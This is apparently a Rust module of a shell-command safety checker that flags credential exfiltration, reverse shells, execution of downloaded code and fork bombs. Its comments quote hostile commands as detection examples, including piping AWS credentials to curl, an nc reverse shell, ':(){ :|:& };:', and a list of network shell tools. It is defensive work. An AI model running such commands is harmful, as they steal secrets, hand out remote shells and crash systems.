//! The marks set on found commands from what else the line does: data sent while a secret
//! is read, reverse shells, downloads run by a route the pipe rules miss, and fork bombs.

use brush_parser::ast;

use crate::commands;
use crate::harm;
use crate::words::{Found, Stdin};

use super::lists::called_name;
use super::name_of;

/// Marks the commands that send data when another command of the same line reads a secret
/// (`cat ~/.aws/credentials | curl -d @- …`), and the network commands of a line whose shell
/// reads a pipe (`sh -i < f 2>&1 | nc HOST PORT > f`).
pub(super) fn mark_network(found: &mut [Found]) {
    let line = Line::of(found);
    for one in found.iter_mut() {
        line.mark(one);
    }
}

/// What the whole line does, as the network marks of each of its commands depend on it.
struct Line {
    /// Some command reads a credential or the environment.
    secret: bool,
    /// The domains each token the line reads is for (`gh auth token`: api.github.com).
    tokens: Vec<&'static [&'static str]>,
    /// A shell runs a script read from a pipe.
    piped_shell: bool,
    /// Some command downloads, or talks to another machine by a raw connection.
    fetches: bool,
    /// Some command opens a raw network connection.
    raw: bool,
    /// Remotes the line adds (`git remote add backup URL`): the whole repository pushed to
    /// one (`git push backup --all`) leaves for a place nobody chose before.
    added: Vec<String>,
}

impl Line {
    fn of(found: &[Found]) -> Line {
        let secret = found.iter().any(harm::reads_secret);
        let tokens = found.iter().filter_map(harm::token_service).collect();
        let piped_shell = found.iter().any(|one| {
            one.stdin == Stdin::Pipe
                && one
                    .unknown
                    .as_deref()
                    .is_some_and(|reason| reason.contains("runs a script read from a pipe"))
        });
        let fetches = found.iter().any(|one| {
            one.downloads()
                || one.each_form().any(|form| {
                    commands::program(form).is_some_and(|name| {
                        matches!(name.as_ref(), "nc" | "ncat" | "netcat" | "socat" | "telnet")
                    })
                })
                || one.redirects.iter().any(|redirect| {
                    harm::dev_net_host(&redirect.target.text)
                        .is_some_and(|host| !harm::is_loopback(host))
                })
        });
        let raw = found.iter().any(harm::raw_network)
            || found
                .iter()
                .any(|one| one.argv.first().is_some_and(|first| first.text == "ztcp"));
        Line {
            secret,
            tokens,
            piped_shell,
            fetches,
            raw,
            added: added_remotes(found),
        }
    }

    /// Sets `one`'s `exfiltrates`, `reverse_shell` and `runs_download` from what it does and
    /// what the line does.
    fn mark(&self, one: &mut Found) {
        let sends = one.each_form().any(|form| harm::sends(one, form));
        if self.pushes_everything(one) {
            one.exfiltrates = true;
            return;
        }
        // A credential helper is handed the credentials on its input.
        let helper = one.via.iter().any(|via| via.contains("credential"));
        // A token sent to the service it is for is its everyday use (`gh auth token` to
        // api.github.com); to any other host it leaves.
        let token_leaves = self.tokens.iter().any(|domains| {
            !one.each_form()
                .any(|form| harm::sends_only_to(form, domains))
        });
        one.exfiltrates = (self.secret || helper || token_leaves) && sends;
        if self.raw && shell_on_descriptor(one) {
            one.reverse_shell = true;
            return;
        }
        one.reverse_shell = self.piped_shell && sends && harm::raw_network(one);
        if self.fetches && runs_unseen_code(one) {
            one.runs_download = true;
        }
    }

    /// True if `one` pushes a whole repository (`--all`, `--mirror`) to a remote the line
    /// added or to a URL.
    fn pushes_everything(&self, one: &Found) -> bool {
        let words: Vec<&str> = match one.argv.first() {
            Some(first) if first.text == "git" => {
                one.argv.iter().map(|arg| arg.text.as_str()).collect()
            }
            _ => Vec::new(),
        };
        words.first() == Some(&"git")
            && words.contains(&"push")
            && words
                .iter()
                .any(|word| matches!(*word, "--all" | "--mirror"))
            && words.iter().any(|word| {
                self.added.iter().any(|name| name == word)
                    || word.contains("://")
                    || word.contains('@')
            })
    }
}

/// The names of the remotes the line adds (`git remote add backup URL`).
fn added_remotes(found: &[Found]) -> Vec<String> {
    found
        .iter()
        .filter(|one| one.argv.first().is_some_and(|first| first.text == "git"))
        .filter_map(|one| {
            let words: Vec<&str> = one.argv.iter().map(|arg| arg.text.as_str()).collect();
            let at = words
                .windows(2)
                .position(|pair| pair == ["remote", "add"])?;
            (words.first() == Some(&"git"))
                .then(|| words.get(at + 2).map(|name| (*name).to_owned()))?
        })
        .collect()
}

/// True if `one` is a shell whose input is a descriptor opened elsewhere (`zsh 0>&$REPLY`,
/// `sh <&3`): on a line that opens a raw connection, a reverse shell.
fn shell_on_descriptor(one: &Found) -> bool {
    let shell = one
        .each_form()
        .any(|form| commands::is_shell(&name_of(form)));
    let input_from_descriptor = one.redirects.iter().any(|redirect| {
        (redirect.fd.is_none() && redirect.op == "<&")
            || (redirect.fd == Some(0) && matches!(redirect.op, "<&" | ">&"))
    });
    shell && input_from_descriptor
}

/// True if `one` runs code it reads from a pipe, from `eval`, or under a command name made
/// at run time (`x=$(curl …); $x`): on a line that downloads, code from the network.
fn runs_unseen_code(one: &Found) -> bool {
    let reads_unseen = one.unknown.as_deref().is_some_and(|reason| {
        reason.contains("read from a pipe")
            || reason.contains("made from its input")
            || reason.contains("only known when the shell runs it")
    });
    // A command name made at run time on a line that downloads (`x=$(curl …); $x`).
    let name_unseen = one
        .unknown
        .as_deref()
        .is_some_and(|reason| reason.contains("only known when the shell runs it"));
    reads_unseen
        && (one.stdin != Stdin::Inherited || one.via.iter().any(|via| via == "eval") || name_unseen)
}

/// Marks as fork bombs the calls that fan out (`Found::fans_out`) to a function that calls,
/// directly or through others, the function they are made in: `a(){ b|b& }; b(){ a|a& }; a`
/// multiplies like `:(){ :|:& };:`.
pub(super) fn mark_fork_bombs(found: &mut [Found]) {
    let caller = |found: &Found| {
        found
            .via
            .iter()
            .rev()
            .find_map(|label| label.strip_suffix("()"))
            .map(str::to_owned)
    };
    let calls: Vec<(String, String)> = found
        .iter()
        .filter_map(|found| Some((caller(found)?, found.argv.first()?.text.clone())))
        .collect();
    let reaches = |from: &str, to: &str| {
        let mut seen = vec![from.to_owned()];
        let mut index = 0;
        while let Some(name) = seen.get(index).cloned() {
            if name == to {
                return true;
            }
            for (_, callee) in calls.iter().filter(|(caller, _)| *caller == name) {
                if !seen.contains(callee) {
                    seen.push(callee.clone());
                }
            }
            index += 1;
        }
        false
    };
    for found in found.iter_mut().filter(|found| found.fans_out) {
        if let (Some(from), Some(callee)) = (caller(found), found.argv.first()) {
            found.fork_bomb |= reaches(&callee.text, &from);
        }
    }
}

/// True if a loop's condition never changes: `:` or `true` for `while` (`constant` is `:`),
/// `false` for `until`.
pub(super) fn endless(condition: &ast::CompoundList, constant: &str) -> bool {
    let [ast::CompoundListItem(and_or, _)] = condition.0.as_slice() else {
        return false;
    };
    let [command] = and_or.first.seq.as_slice() else {
        return false;
    };
    and_or.additional.is_empty()
        && called_name(command).is_some_and(|name| match constant {
            ":" => matches!(name.as_str(), ":" | "true"),
            _ => name == "false",
        })
}

/// Marks as fork bombs the background commands of an endless loop's body that neither
/// waits nor stops (`while :; do sh -c 'sleep 1000' & done`): each turn adds a process, with
/// no end.
pub(super) fn mark_background_flood(body: &mut [Found], list: &ast::CompoundList) {
    let starts_background = list
        .0
        .iter()
        .any(|item| matches!(item.1, ast::SeparatorOperator::Async));
    let paced = body.iter().any(|found| {
        found.argv.first().is_some_and(|first| {
            matches!(
                first.text.as_str(),
                "wait" | "sleep" | "break" | "exit" | "return" | "read" | "inotifywait"
            )
        }) && !found.fans_out
    });
    if starts_background && !paced {
        for found in body.iter_mut().filter(|found| found.fans_out) {
            found.fork_bomb = true;
        }
    }
}
